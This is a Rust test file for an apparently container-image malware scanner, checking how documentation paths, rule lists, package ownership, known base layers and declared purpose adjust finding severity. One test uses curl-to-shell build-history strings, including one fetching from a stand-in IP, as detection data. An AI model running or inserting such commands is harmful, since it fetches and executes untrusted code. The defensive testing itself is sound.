use super::*;
use crate::ImageAnalyzer;
use crate::analyzers::fixture::{Fixture, hashes_of};
use layers::Place;
use model::{Axis, Class, Detection, Digest, HISTORY};
use proptest::prelude::*;
use proptest::sample::select;

mod laws;
mod scope;

const SCRIPT: &[u8] = b"#!/bin/sh\nexec /opt/x\n";
const TEXT: &[u8] = b"a text that names something bad\n";

fn program() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01".to_vec();
    bytes.resize(64, 0);
    bytes
}

fn detection(id: &'static str, role: Role) -> Detection {
    Detection {
        id,
        title: "Found",
        severity: Severity::High,
        role,
        class: Class::File,
        stage: Stage::Static,
        techniques: &[],
        why: "",
        advice: "",
    }
}

/// Applies the controls to findings about these paths of an image, all of one id and role; what the start leads
/// to is known as it is to the product.
fn applied(
    image: &Fixture,
    id: &'static str,
    role: Role,
    paths: &[&str],
    known: &KnownChains,
) -> Vec<Finding> {
    image.view(|view| {
        let mut out = Outcome::default();
        crate::analyzers::start::Start.analyze(view, &mut out);
        out.findings = paths
            .iter()
            .map(|path| {
                let place = view.tree.get(path.as_bytes()).unwrap();
                view.finding_at(&detection(id, role), "found", place).with_evidence("string", "bad", None)
            })
            .collect();
        apply_with(view, known, &mut out);
        out.findings
    })
}

/// The control that lowered a finding of severity high about a path, with what it came to.
fn check(image: &Fixture, path: &str, expect: Option<(&str, Role, Severity)>) {
    let found = applied(image, "S-PER-CRON", Role::Corroborates, &[path], &KnownChains::built_in());
    let [finding] = &found[..] else { panic!("{found:?}") };
    let note = finding.controls().next().map(|note| note.split(' ').next().unwrap_or_default());
    let came_to = note.map(|note| (note, finding.role, finding.severity));
    assert_eq!(came_to, expect, "{path}: {finding:?}");
    if expect.is_none() {
        assert_eq!((finding.role, finding.severity), (Role::Corroborates, Severity::High), "{path}");
    }
    for role in [Role::Convicts, Role::Context] {
        let same = applied(image, "S-PER-CRON", role, &[path], &KnownChains::built_in());
        assert_eq!(
            (same[0].role, same[0].severity, same[0].evidence.len()),
            (role, Severity::High, 1),
            "{path}"
        );
    }
}

fn with(path: &str, mode: u32, bytes: &[u8]) -> Fixture {
    let mut image = Fixture::new();
    image.file("etc/hostname", 0o644, b"x").file(path, mode, bytes);
    image
}

const CONTEXT: Role = Role::Context;
const OWNED: Option<(&str, Role, Severity)> = Some(("G1", Role::Corroborates, Severity::Low));
const EXCUSED: Option<(&str, Role, Severity)> = Some(("G4", CONTEXT, Severity::High));
const LISTED: Option<(&str, Role, Severity)> = Some(("G3", CONTEXT, Severity::High));

#[test]
fn documentation_and_tests_explain() {
    for path in [
        "usr/share/doc/nmap/attacks",
        "usr/share/man/man1/x.1",
        "usr/lib/python3/site-packages/x/docs/a.txt",
        "app/README",
        "app/README.md",
        "app/node_modules/x/test/shell.js",
        "go/src/debug/testdata/wallet",
    ] {
        check(&with(path, 0o644, TEXT), path, EXCUSED);
    }
    check(&with("app/tests/run.sh", 0o755, SCRIPT), "app/tests/run.sh", EXCUSED);
    check(&with("go/src/debug/elf/testdata/x", 0o644, &program()), "go/src/debug/elf/testdata/x", EXCUSED);
}

#[test]
fn the_name_of_a_folder_excuses_nothing_that_may_run() {
    for (path, mode, bytes) in [
        ("usr/share/doc/x/run", 0o755, SCRIPT),
        ("usr/share/doc/x/run", 0o644, SCRIPT),
        ("usr/share/doc/x/run", 0o644, &program()[..]),
        ("usr/share/doc/x/run", 0o755, TEXT),
        ("app/README.md", 0o4755, TEXT),
        ("app/tests/x", 0o755, &program()),
        ("app/tests/x", 0o4644, TEXT),
        // Not within anything.
        ("tests/run.sh", 0o644, SCRIPT),
        ("doc/x", 0o644, TEXT),
        ("app/doctor/x", 0o644, TEXT),
        ("app/README.sh", 0o644, TEXT),
        // A name that had to be escaped.
        ("usr/share/doc/x\u{202e}y/a", 0o644, TEXT),
    ] {
        if path.contains('\u{202e}') {
            let found = applied(
                &with(path, mode, bytes),
                "S-X-Y",
                Role::Corroborates,
                &[path],
                &KnownChains::built_in(),
            );
            assert_eq!(found[0].role, Role::Corroborates);
            continue;
        }
        check(&with(path, mode, bytes), path, None);
    }
}

#[test]
fn what_the_start_leads_to_is_no_documentation_and_no_list() {
    for path in ["usr/share/doc/x/a.py", "app/tests/a.py", "etc/suricata/a.rules"] {
        let mut image = with(path, 0o644, b"print('hello')\n");
        image.file("usr/bin/python3", 0o755, &program());
        let excused = if path.ends_with("rules") { LISTED } else { EXCUSED };
        check(&image, path, excused);
        image.start(&["python3", &format!("/{path}")], &[]);
        check(&image, path, None);
    }
}

#[test]
fn lists_are_data_that_names_much_or_rules_by_their_place() {
    for path in
        ["usr/share/x/miners.yar", "etc/falco/rules.yaml", "var/lib/clamav/main.ndb", "etc/suricata/x/a.list"]
    {
        check(&with(path, 0o644, TEXT), path, LISTED);
        check(&with(path, 0o755, TEXT), path, None);
        check(&with(path, 0o644, SCRIPT), path, None);
    }
    check(&with("etc/falcon/rules.yaml", 0o644, TEXT), "etc/falcon/rules.yaml", None);
    check(&with("etc/falco/rules.sh", 0o644, TEXT), "etc/falco/rules.sh", None);
    let pools = |count: usize| {
        with("etc/hosts.block", 0o644, TEXT).view(|view| {
            let mut out = Outcome::default();
            let place = view.tree.get(b"etc/hosts.block").unwrap();
            let pool =
                |number| {
                    view.finding_at(&detection("S-MIN-POOL", Role::Corroborates), "found", place)
                        .with_evidence("string", &format!("pool{number}.example"), None)
                };
            out.findings = (0..count).map(pool).collect();
            apply(view, &mut out);
            out.findings.iter().filter(|finding| finding.role == CONTEXT).count()
        })
    };
    assert_eq!((pools(25), pools(26)), (0, 26));
}

/// An image with a package that promised `promised` at a path, where `there` is.
fn packaged(path: &str, promised: &[u8], there: &[u8]) -> Fixture {
    let mut image = Fixture::new();
    image.package("cron", &[(path, promised)]).file(path, 0o644, there);
    image
}

#[test]
fn what_a_package_promised_is_worth_two_levels_less() {
    check(&packaged("etc/cron.d/x", TEXT, TEXT), "etc/cron.d/x", OWNED);
    check(&packaged("etc/cron.d/x", TEXT, b"changed"), "etc/cron.d/x", None);
    let mut other = packaged("etc/cron.d/y", TEXT, TEXT);
    other.file("etc/cron.d/x", 0o644, TEXT);
    check(&other, "etc/cron.d/x", None);
    let levels = |severity| {
        packaged("etc/cron.d/x", TEXT, TEXT).view(|view| {
            let mut out = Outcome::default();
            let place = view.tree.get(b"etc/cron.d/x").unwrap();
            let mut finding = view.finding_at(&detection("S-PER-CRON", Role::Corroborates), "found", place);
            finding.severity = severity;
            out.findings.push(finding);
            apply(view, &mut out);
            (out.findings[0].role, out.findings[0].severity)
        })
    };
    assert_eq!(levels(Severity::Critical), (Role::Corroborates, Severity::Medium));
    assert_eq!(levels(Severity::Medium), (CONTEXT, Severity::Medium));
    assert_eq!(levels(Severity::Low), (CONTEXT, Severity::Low));
}

#[test]
fn a_package_promises_no_mode_and_no_capability() {
    let image = packaged("usr/bin/tool", &program(), &program());
    for id in ["S-ESC-SUID", "S-ESC-FCAP"] {
        let found = applied(&image, id, Role::Corroborates, &["usr/bin/tool"], &KnownChains::built_in());
        assert_eq!((found[0].role, found[0].severity), (Role::Corroborates, Severity::High));
    }
}

#[test]
fn a_database_that_gives_itself_away_is_not_believed() {
    // A file list of a package that is not installed.
    let mut contradictory = packaged("etc/cron.d/x", TEXT, TEXT);
    contradictory.file("var/lib/dpkg/info/ghost.list", 0o644, b"/usr/bin/ghost\n");
    check(&contradictory, "etc/cron.d/x", None);
    // It came together with a program of no package.
    let mut suspect = packaged("etc/cron.d/x", TEXT, TEXT);
    suspect.file("usr/lib/.x/ld", 0o755, &program());
    check(&suspect, "etc/cron.d/x", None);
    let mut by_hand = packaged("etc/cron.d/x", TEXT, TEXT);
    by_hand.file("usr/local/bin/gosu", 0o755, &program());
    check(&by_hand, "etc/cron.d/x", OWNED);
    // What lies below the suspect layer was there before.
    let mut below = Fixture::new();
    below.file("etc/cron.d/x", 0o644, TEXT).layer().package("cron", &[("etc/cron.d/x", TEXT)]);
    check(&below, "etc/cron.d/x", OWNED);
    below.file("usr/lib/.x/ld", 0o755, &program());
    check(&below, "etc/cron.d/x", OWNED);
    below.layer().file("etc/cron.d/x", 0o644, TEXT);
    check(&below, "etc/cron.d/x", None);
}

#[test]
fn layers_of_an_official_image_are_known_as_they_are() {
    let mut image = Fixture::new();
    image.file("etc/a", 0o644, TEXT).layer().file("etc/b", 0o644, TEXT).layer().file("etc/c", 0o644, TEXT);
    for number in 0..3 {
        image.unpacks_to(number, Digest::sha256([number as u8 + 1; 32]));
    }
    use sha2::Digest as _;
    let two = format!("{} {}", Digest::sha256([1; 32]), Digest::sha256([2; 32]));
    let mut known = KnownChains::built_in();
    known.add(Digest::sha256(sha2::Sha256::digest(two).into()), "debian:12");
    let roles = |known: &KnownChains, role| -> Vec<Role> {
        let found = applied(&image, "S-PER-CRON", role, &["etc/a", "etc/b", "etc/c"], known);
        found.iter().map(|finding| finding.role).collect()
    };
    assert_eq!(roles(&known, Role::Corroborates), [CONTEXT, CONTEXT, Role::Corroborates]);
    assert_eq!(roles(&known, Role::Convicts), [Role::Convicts; 3]);
    assert_eq!(roles(&KnownChains::built_in(), Role::Corroborates), [Role::Corroborates; 3]);
    // The same layer elsewhere in a chain is another chain.
    let mut other = KnownChains::built_in();
    other.add(Digest::sha256([2; 32]), "busybox");
    assert_eq!(roles(&other, Role::Corroborates), [Role::Corroborates; 3]);
}

#[test]
fn history_alone_counts_where_it_fetched_from_odd_places() {
    let role = |instruction: &str, path: Option<&str>| {
        Fixture::new().view(|view| {
            let mut out = Outcome::default();
            let mut finding = view
                .finding(&detection("S-MIN-BUILD", Role::Corroborates), "found")
                .with_evidence(HISTORY, instruction, None);
            finding.path = path.map(str::to_owned);
            out.findings.push(finding);
            apply(view, &mut out);
            out.findings[0].role
        })
    };
    assert_eq!(role("curl https://sh.rustup.example | sh", None), CONTEXT);
    assert_eq!(role("curl https://sh.rustup.example | sh", Some("/x")), Role::Corroborates);
    assert_eq!(role("curl http://198.51.100.7/x | sh", None), Role::Corroborates);
}

#[test]
fn a_declared_purpose_stands_beside_the_verdict_and_lightens_nothing() {
    let declared = |name: &str, label: &str, start: &str, id: &'static str, role| {
        let mut image = Fixture::named(name);
        // Also documentation, and what a package promised: neither lowers what is declared.
        image.package("xmrig", &[("usr/share/doc/x", TEXT)]).file("usr/share/doc/x", 0o644, TEXT);
        image
            .config
            .config
            .labels
            .insert("org.opencontainers.image.description".to_owned(), label.to_owned());
        image.start(&[start], &[]);
        let found = applied(&image, id, role, &["usr/share/doc/x"], &KnownChains::built_in());
        assert_eq!(found[0].severity, Severity::High);
        if found[0].axis.is_some() {
            assert_eq!(found[0].role, role);
            assert!(found[0].controls().next().is_some_and(|note| note.starts_with("G5 declared purpose: ")));
        }
        found[0].axis
    };
    for role in [Role::Convicts, Role::Corroborates, Role::Context] {
        let pua = Some(Axis::Pua);
        assert_eq!(declared("metal3d/xmrig", "Monero miner", "/xmrig", "S-MIN-HASH", role), pua);
        assert_eq!(declared("x/masscan", "a port scanner", "/bin/masscan", "S-DIS-MASSCAN", role), pua);
        assert_eq!(declared("x/torproxy", "Tor proxy", "tor", "S-C2-TORWRAP", role), pua);
        assert_eq!(declared("x/wrk", "HTTP benchmark", "/usr/bin/wrk", "S-IMP-DDOS", role), pua);
        // Each of the three must say it, as a word of its own, and the finding must belong to it.
        assert_eq!(declared("x/nginx", "Monero miner", "/xmrig", "S-MIN-HASH", role), None);
        assert_eq!(declared("x/xmrig", "a web server", "/xmrig", "S-MIN-HASH", role), None);
        assert_eq!(declared("x/xmrig", "Monero miner", "nginx", "S-MIN-HASH", role), None);
        assert_eq!(declared("x/editor", "an editor", "editor", "S-C2-TORWRAP", role), None);
        assert_eq!(declared("x/xmrig", "Monero miner", "/xmrig", "S-CRE-STEALER", role), None);
    }
}

#[test]
fn running_is_being_there_and_being_led_to() {
    let mut image = with("opt/a", 0o755, SCRIPT);
    image.file("opt/b", 0o755, SCRIPT).file("bin/sh", 0o755, &program()).start(&["/opt/a"], &[]);
    image.view(|view| {
        let mut out = Outcome::default();
        crate::analyzers::start::Start.analyze(view, &mut out);
        let place = |path: &[u8]| view.tree.get(path).unwrap();
        assert!(runs(view, &out, place(b"opt/a")) && !runs(view, &out, place(b"opt/b")));
        assert!(!runs(view, &out, Place { layer: 7, entry: 7 }));
    });
}

#[test]
fn a_finding_about_another_content_is_not_excused_by_what_lies_there_now() {
    let mut image = with("usr/share/doc/x/a", 0o644, TEXT);
    image.layer().file("usr/share/doc/x/a", 0o644, b"other");
    image.view(|view| {
        let mut out = Outcome::default();
        let mut below =
            view.finding_at(&detection("S-X-Y", Role::Corroborates), "found", Place { layer: 0, entry: 1 });
        assert_eq!(below.content, Some(Digest::sha256(hashes_of(TEXT).sha256)));
        out.findings.push(below.clone());
        below.layer = view.layer_ref(1);
        out.findings.push(below);
        apply(view, &mut out);
        assert!(out.findings.iter().all(|finding| finding.role == Role::Corroborates));
    });
}

#[test]
fn every_control_has_a_number_of_its_own() {
    let ids: std::collections::BTreeSet<_> = Control::ALL.iter().map(|control| control.id()).collect();
    assert_eq!(ids.len(), 12);
    let dynamic: Vec<_> = Control::ALL.iter().filter(|control| control.stage() == Stage::Dynamic).collect();
    assert_eq!(dynamic.iter().map(|control| control.id()).collect::<Vec<_>>(), ["G8", "G9", "G10", "G12"]);
}
